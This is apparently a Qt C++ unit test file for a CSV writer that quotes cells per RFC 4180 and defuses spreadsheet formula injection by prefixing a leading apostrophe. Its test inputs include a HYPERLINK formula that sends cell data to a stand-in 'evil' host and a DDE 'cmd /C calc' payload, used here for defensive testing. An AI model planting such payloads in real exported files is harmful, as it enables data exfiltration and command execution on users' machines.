#include "CsvWriter.h"

#include <QtTest/QTest>

// The reports' CSV cells (API.md, Reports; issue 24 point 5): RFC 4180 quoting, and text
// that a spreadsheet would run as a formula neutralised by a leading ' (OWASP), decided
// by the cell's type: a number keeps its minus sign, a name that looks like a number
// does not become one.
class tst_CsvWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void text_data();
    void text();
    void number_data();
    void number();
    void record_data();
    void record();
};

void tst_CsvWriter::text_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QByteArray>("expected");

    QTest::newRow("plain") << QStringLiteral("Kettle") << QByteArray("Kettle");
    QTest::newRow("empty") << QString() << QByteArray();
    QTest::newRow("Hangul") << QStringLiteral("무선 이어폰") << QByteArray("무선 이어폰");
    // OWASP's six: = + - @ tab CR at the start get a leading '.
    QTest::newRow("= formula, quotes doubled") << QStringLiteral("=HYPERLINK(\"http://evil/?\"&A1,\"x\")")
                                               << QByteArray("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"");
    QTest::newRow("= Hangul") << QStringLiteral("=합계(A1)") << QByteArray("'=합계(A1)");
    QTest::newRow("+") << QStringLiteral("+1+cmd|' /C calc'!A0") << QByteArray("'+1+cmd|' /C calc'!A0");
    QTest::newRow("-") << QStringLiteral("-2+3") << QByteArray("'-2+3");
    QTest::newRow("@") << QStringLiteral("@SUM(A1:A9)") << QByteArray("'@SUM(A1:A9)");
    QTest::newRow("tab") << QStringLiteral("\t=1") << QByteArray("'\t=1");
    // The ' goes before the CR, and the CR still makes RFC 4180 quote the cell.
    QTest::newRow("CR") << QStringLiteral("\r=1") << QByteArray("\"'\r=1\"");
    // Text that reads like a negative number is still text: the type decides.
    QTest::newRow("name -5000") << QStringLiteral("-5000") << QByteArray("'-5000");
    QTest::newRow("username starting with -") << QStringLiteral("-x_1") << QByteArray("'-x_1");
    // Only the first character counts.
    QTest::newRow("= inside") << QStringLiteral("1+1=2") << QByteArray("1+1=2");
    QTest::newRow("leading space") << QStringLiteral(" =1") << QByteArray(" =1");
    QTest::newRow("leading LF, quoted only") << QStringLiteral("\n=1") << QByteArray("\"\n=1\"");
    QTest::newRow("already a ' ") << QStringLiteral("'=1") << QByteArray("'=1");
    // RFC 4180 as before.
    QTest::newRow("comma") << QStringLiteral("냄비, 24cm") << QByteArray("\"냄비, 24cm\"");
    QTest::newRow("quote") << QStringLiteral("a \"b\"") << QByteArray("\"a \"\"b\"\"\"");
    QTest::newRow("CRLF inside") << QStringLiteral("a\r\nb") << QByteArray("\"a\r\nb\"");
    QTest::newRow("= with a comma") << QStringLiteral("=1,2") << QByteArray("\"'=1,2\"");
    QTest::newRow("ISO date") << QStringLiteral("2026-01-31") << QByteArray("2026-01-31");
}

void tst_CsvWriter::text()
{
    QFETCH(QString, value);
    QFETCH(QByteArray, expected);
    QCOMPARE(CsvWriter::text(value), expected);
}

void tst_CsvWriter::number_data()
{
    QTest::addColumn<qint64>("value");
    QTest::addColumn<QByteArray>("expected");

    QTest::newRow("0") << qint64(0) << QByteArray("0");
    QTest::newRow("money") << qint64(5000) << QByteArray("5000");
    QTest::newRow("negative money stays a number") << qint64(-5000) << QByteArray("-5000");
    QTest::newRow("largest order") << qint64(50'000'000'000'000) << QByteArray("50000000000000");
    QTest::newRow("qint64 min") << std::numeric_limits<qint64>::min() << QByteArray("-9223372036854775808");
}

void tst_CsvWriter::number()
{
    QFETCH(qint64, value);
    QFETCH(QByteArray, expected);
    QCOMPARE(CsvWriter::number(value), expected);
}

void tst_CsvWriter::record_data()
{
    QTest::addColumn<QList<QByteArray>>("cells");
    QTest::addColumn<QByteArray>("expected");

    QTest::newRow("one cell") << QList<QByteArray> { CsvWriter::number(1) } << QByteArray("1\r\n");
    QTest::newRow("no cells") << QList<QByteArray> {} << QByteArray("\r\n");
    QTest::newRow("text and numbers side by side")
            << QList<QByteArray> { CsvWriter::number(7), CsvWriter::text(QStringLiteral("-5000")), CsvWriter::number(-5000),
                                   CsvWriter::text(QStringLiteral("@주방")), CsvWriter::text(QString()) }
            << QByteArray("7,'-5000,-5000,'@주방,\r\n");
    QTest::newRow("a quoted cell in the middle")
            << QList<QByteArray> { CsvWriter::text(QStringLiteral("a")), CsvWriter::text(QStringLiteral("+b,c")),
                                   CsvWriter::number(3) }
            << QByteArray("a,\"'+b,c\",3\r\n");
}

void tst_CsvWriter::record()
{
    QFETCH(QList<QByteArray>, cells);
    QFETCH(QByteArray, expected);
    QCOMPARE(CsvWriter::record(cells), expected);
}

QTEST_APPLESS_MAIN(tst_CsvWriter)
#include "tst_csvwriter.moc"
